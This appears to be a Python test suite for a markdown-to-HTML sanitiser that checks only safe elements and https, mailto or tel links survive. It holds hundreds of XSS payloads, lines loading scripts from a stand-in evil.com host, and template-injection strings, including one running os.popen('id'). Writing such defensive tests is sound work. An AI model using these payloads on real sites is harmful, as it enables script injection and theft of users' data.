"""Rich text: whatever is written, only the allowed elements and https, mailto and tel links come out, and no words are lost."""

from __future__ import annotations

import re
import time

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown

from generator.views import rich_text
from generator.views.rich_text import rich_html

ELEMENTS = {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "h3", "h4", "a", "table", "thead", "tbody", "tr", "th", "td", "hr", "code"}
ATTRIBUTES = {"href", "title", "rel"}
HREF = re.compile(r"(?:https:|mailto:|tel:)[^\x00-\x1f]*", re.IGNORECASE)


def parsed(text: str, convert=rich_html):
    return html5lib.parseFragment(str(convert(text)), namespaceHTMLElements=False)


def words(text: str) -> str:
    """The visible text, white space evened out."""
    return " ".join("".join(parsed(text).itertext()).split())


def assert_safe(text: str, convert=rich_html, anywhere: frozenset[str] = frozenset()) -> None:
    for element in parsed(text, convert).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in ELEMENTS, (text, element.tag)
        if element.tag == "th":
            assert element.attrib.pop("scope", "col") == "col"
        assert set(element.attrib) <= (ATTRIBUTES if element.tag == "a" else set()) | anywhere, (text, element.attrib)
        if "href" in element.attrib:
            assert HREF.fullmatch(element.get("href")), (text, element.get("href"))
        if element.tag == "a":
            assert element.get("rel") == "noopener nofollow ugc"


EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
EVENT_HTML = [html.format(event=event) for event in EVENTS for html in (
    "<img src=x {event}=alert(1)>", "<b {event}=alert(1)>x</b>", "<details open {event}='alert(1)'>", '"><svg/{event}=alert(1)>',
    "<a href=https://a.vn {event}=alert(1)>x</a>", "<p{event}=x><x/{event}/=alert(1) autofocus tabindex=1>")]
ELEMENT_HTML = [
    f"<{name}>alert(1)</{name}>" for name in (
        "script", "SCRIPT", "scr\u0131pt", "script ", "script/x", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math",
        "template", "noscript", "textarea", "title", "xmp", "plaintext", "video", "audio", "canvas", "dialog", "button", "input", "marquee", "frameset",
        "svg><script", "math><mtext><script", "svg><style", "noscript><p title='</noscript><img src=x onerror=alert(1)>'", "x:script", "body")]
RAW_HTML = [
    "<script src=//evil.com/x.js>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<base href=//evil.com>", "<meta http-equiv=refresh content='0;url=//evil.com'>", "<link rel=stylesheet href=//evil.com>",
    "<form action=//evil.com><input name=x><button>x", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<!-- --><script>alert(1)</script> -->", "<!--><img src=x onerror=alert(1)>", "<!-- `<img src=x onerror=alert(1)>` -->", "<!--[if IE]><script>1</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>", "<?php echo 1 ?>", "<!DOCTYPE html><script>", "<!ENTITY x 'y'>",
    "<img src=x onerror=alert(1)", "<img src='x", '<a href="', "</p></div></body></html><script>alert(1)</script>", "<", "<<script>script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<table><tr><td><table><tr><td><script>alert(1)</script>", "<table><caption><svg onload=alert(1)>",
    "<table background=javascript:alert(1)>", "<div style=background:url(javascript:alert(1))>", "<p style='x:expression(alert(1))'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "&amp;lt;script&amp;gt;",
    "&lt;img src=x onerror=alert(1)&gt;", "\\<script>alert(1)\\</script>", "`<script>alert(1)</script>`", "``<b>`</b>``", "\u2028<script>\u2029",
    "＜script＞alert(1)＜/script＞", "<script>\n\nalert(1)\n\n</script>", "    <script>alert(1)</script>", "\t<script>alert(1)</script>",
    "<style>@import '//evil.com';</style>", "<details><summary>x</summary>", "<isindex type=image src=1 onerror=alert(1)>",
    "<a href='https://a.vn' target=_blank ping=//evil.com>x</a>", "<input autofocus onfocus=alert(1)>", "<img srcset='x 1x' src=//evil.com/a.png>",
]
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript:alert&lpar;1&rpar;", "javascript%3Aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://a.vn/1", "filesystem:https://a.vn/",
    "view-source:https://a.vn", "http://a.vn/", "ftp://a.vn/", "//evil.com/", "/\\evil.com/", "\\\\evil.com\\", "///evil.com", "/x", "x", "#x", "?x", "../../x",
    "https:evil", "jar:https://a.vn!/", "feed:javascript:alert(1)", "x-javascript:alert(1)", "ws://a.vn/", "sms:+84", "livescript:x", "mocha:x", "",
]
LINKS = [form.format(scheme) for scheme in SCHEMES for form in (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "[x][1]\n\n[1]: {}", "<{}>", "![x]({})", "[![x]({})](https://a.vn/)")]
MARKDOWN = [
    "[x](https://a.vn){: onclick=alert(1)}", "# x {: #id onclick=alert(1) }", "{: onclick=alert(1)}", "*x*{onclick=alert(1)}", "*[HTML]: <script>",
    "[^1]: <script>alert(1)</script>", "x[^1]", "--8<-- \"data/site.yml\"", "--8<-- 'https://evil.com'", ";--8<--", "!!! note \"<script>\"\n    x",
    "??? x\n    <script>", "=== \"x\"\n    y", "[TOC]", ":::python\nx", "```html\n<script>alert(1)</script>\n```", "~~~\n<script>\n~~~", "$$\\href{javascript:1}{x}$$",
    "[x](https://a.vn \"onmouseover='alert(1)'\")", "[x](https://a.vn '\" onmouseover=\"alert(1)')", "[x](https://a.vn \"&quot; onmouseover=&quot;alert(1)\")",
    "[x](https://a.vn/\"onmouseover=alert(1))", "[x](https://a.vn/'onmouseover='alert(1))", "[x](https://a.vn/<script>)", "<https://a.vn/\"onmouseover=alert(1)>",
    "<a@b.vn\"onmouseover=alert(1)>", "<javascript:alert(1)@b.vn>", "[<img src=x onerror=alert(1)>](https://a.vn)", "[`<script>`](https://a.vn)",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|", "|a|\n|:-:|\n|x|", "> <script>alert(1)</script>", "- <script>alert(1)</script>",
    "1. <iframe src=//evil.com>", "# <script>alert(1)</script>", "<script>alert(1)</script>\n===", "***<b onclick=x>y***", "a  \n<br onclick=alert(1)>",
    "\x02klzzwxh:0000\x03", "klzzwxh:0001", "\x02wzxhzdk:0\x03", "\x02amp\x03lt;script\x02amp\x03gt;", "\x02" + "60\x03script\x02" + "62\x03", "wzxhzdk:0",
    "[[x]]", "[x]: https://a.vn", "  [x]: javascript:alert(1) \"t\"", "[x]", "![x]", "![x][y]", "<x@y>", "++x++", "^^x^^", "==x==", ":smile:", "(c)",
    "[x](https://a.vn) [y](mailto:a@b.vn) [z](tel:+84260)", "\\[x\\](javascript:alert(1))", "[x](javascript:alert(1)//https://a.vn)",
]
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{% raw %}x{% endraw %}", "{# x #}", "{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include 'base.html' %}", "{%- if 1 %}x{% endif -%}", "{{ self }}", "@{7*7}", "[[${7*7}]]",
]
PAYLOADS = [*EVENT_HTML, *ELEMENT_HTML, *RAW_HTML, *LINKS, *MARKDOWN, *TEMPLATES]


def test_there_are_several_hundred_payloads():
    assert len(set(PAYLOADS)) > 400


@pytest.mark.parametrize("frame", ["{}", "chữ {} chữ", "- {}", "> {}", "# {}", "|a|\n|-|\n|{}|", "**{}**", "[{}](https://a.vn)", "[a](https://a.vn \"{}\")"])
def test_nothing_active_comes_out(frame):
    for payload in PAYLOADS:
        assert_safe(frame.replace("{}", payload))


def test_nothing_active_comes_out_of_all_at_once():
    assert_safe("\n\n".join(PAYLOADS))
    assert_safe("".join(PAYLOADS))


def test_the_second_wall_holds_without_the_first(monkeypatch):
    """HTML does not get as far as the sanitiser; if it did, nothing active would come out either."""
    monkeypatch.setattr(rich_text, "_markdown", lambda: Markdown(extensions=["extra", "toc"]))
    for payload in PAYLOADS:
        assert_safe(payload, rich_html.__wrapped__, frozenset({"title", "lang"}))  # nh3 lets these two stand on any element
    assert "<strong>" in rich_html.__wrapped__("<strong>x</strong>")


@pytest.mark.parametrize("payload", [*EVENT_HTML, *ELEMENT_HTML, *(html for html in RAW_HTML if not re.search("[&`\\\\\u2028\n\t]", html))])
def test_html_is_shown_as_it_was_typed(payload):
    assert words(f"đầu {payload} cuối") == " ".join(f"đầu {payload} cuối".split())


@pytest.mark.parametrize("payload", [payload for payload in TEMPLATES if "__" not in payload])
def test_template_code_is_shown_as_it_was_typed(payload):
    assert words(f"Chữ {payload}") == f"Chữ {payload}"
    assert words(f"**đậm** {payload}.") == f"đậm {payload}."


def test_template_code_is_not_run():
    for payload in TEMPLATES:
        assert "49" not in words(payload)
        assert words(payload)[-2:] == payload[-2:]


@pytest.mark.parametrize("address", ["https://dichvucong.gov.vn/p?a=1&b=2", "mailto:vanthu@kontum.gov.vn", "tel:+842603862345"])
def test_good_links_stay(address):
    link = parsed(f"[Xem]({address} \"Nơi khác\")").find(".//a")
    assert (link.get("href"), link.get("title"), link.text) == (address, "Nơi khác", "Xem")


@pytest.mark.parametrize("address", SCHEMES)
def test_words_of_a_refused_link_stay(address):
    if address.strip() and not re.search(r"[\s<>()\\]|^https:", address):
        assert words(f"Xem [chữ]({address}) tiếp") == "Xem chữ tiếp"
        assert parsed(f"[x]({address})").find(".//a[@href]") is None


@pytest.mark.parametrize(("text", "html"), [
    ("Một *hai* **ba** `bốn`", "<p>Một <em>hai</em> <strong>ba</strong> <code>bốn</code></p>"),
    ("- a\n- b\n    - c", "<ul>\n<li>a</li>\n<li>b<ul>\n<li>c</li>\n</ul>\n</li>\n</ul>"),
    ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
    ("> câu", "<blockquote>\n<p>câu</p>\n</blockquote>"),
    ("a  \nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>"),
    ("# a\n\n## b\n\n### c", "<h3>a</h3>\n<h4>b</h4>\n<h4>c</h4>"),
    ("## a\n\n### b", "<h3>a</h3>\n<h4>b</h4>"),
    ("### a\n\n###### b", "<h3>a</h3>\n<h4>b</h4>"),
    ("a\n===\n\nb\n---", "<h3>a</h3>\n<h4>b</h4>"),
    ("`<h1>` <h2>", "<p><code>&lt;h1&gt;</code> &lt;h2&gt;</p>"),
    ("[a [b]](https://a.vn/(c))", '<p><a href="https://a.vn/(c)" rel="noopener nofollow ugc">a [b]</a></p>'),
    ("[1]: https://a.vn", "<p>[1]: https://a.vn</p>"),
    ("    thụt vào", "<p>thụt vào</p>"),
    ("Nguyễn & Đinh < 5", "<p>Nguyễn &amp; Đinh &lt; 5</p>"),
])
def test_the_small_part_of_markdown(text, html):
    assert rich_html(text) == html


@pytest.mark.parametrize("text", [
    "1. " * 3000, "- " * 5000, "> " * 5000, "> - 1. " * 1400, "[" * 10_000, "![" * 5000, "[](" * 3333, "[a](<b" * 1500, "[" * 4000 + "x" + "](y)" * 1500,
    "*" * 10_000, "*a **b " * 1400, "_" * 10_000, "`" * 10_000, "<" * 10_000, "&" * 10_000, "|" * 10_000, "\\" * 10_000, "#" * 10_000, "<a@" * 3000,
    "\n".join("    " * depth + "- a" for depth in range(65)), "-\n" * 5000, "a\n=\n" * 2500, " " * 9000 + "x", "[a]((" * 2000, "*_" * 2500 + "a" + "_*" * 2500,
    "\n".join("    " * depth + "1. - > 1. - > a" for depth in range(60)),
], ids=lambda text: repr(text[:12]))
def test_a_hostile_text_takes_no_long_time_and_no_deep_stack(text):
    started = time.process_time()
    rich_html.__wrapped__(text)
    assert time.process_time() - started < 5  # ten times what is needed here: it is the growth with the square that must not come back
    assert_safe(text)


def test_a_link_is_looked_for_nearby_only():
    """Otherwise a text of brackets would take time with the square of its length."""
    for length, links in ((900, 1), (1100, 0)):
        assert len(parsed("[" + "a" * length + "](https://a.vn)").findall(".//a")) == links


def test_what_stands_below_the_deepest_list_is_not_lost():
    assert words("- " * 100 + "hết").endswith("- hết")


ALPHABET = st.sampled_from(list("abđ <>\"'&;:/=()[]{}!#*_`|\\-+.@\n\t\x02\x03") + [
    "javascript:", "https://a.vn", "onerror=", "<script>", "</", "<!--", "&#x", "\n\n", "    ", "> ", "- ", "1. ", "[x](", "](", "klzzwxh:", "|-|", "svg", "href="])


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.lists(ALPHABET, max_size=40).map("".join), st.text(max_size=200)))
def test_no_text_gets_through(text):
    assert_safe(text)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(categories=("Lu", "Ll", "Lo", "Nd")), min_size=1, max_size=60))
def test_no_letter_is_lost(text):
    assert words(f"a {text}") == f"a {text}"
